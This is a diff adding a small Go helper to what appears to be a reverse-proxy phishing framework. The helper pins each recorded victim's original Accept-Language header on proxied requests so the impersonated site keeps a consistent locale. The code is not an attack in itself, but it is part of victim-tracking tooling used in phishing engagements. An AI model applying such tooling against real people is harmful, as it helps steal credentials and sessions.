@@ -0,0 +1,18 @@
+package tracking
+
+import (
+	"net/http"
+
+	"github.com/muraenateam/muraena/core/db"
+)
+
+// pinLanguage sends the request with the Accept-Language recorded on the first contact of the victim, so that the
+// target keeps the same locale along the flow, whatever the language of the embedded frames or of the scripts
+// setting the header. The victims recorded without a language are left untouched.
+func pinLanguage(request *http.Request, v *db.Victim) {
+	if v.Language == "" {
+		return
+	}
+
+	request.Header.Set("Accept-Language", v.Language)
+}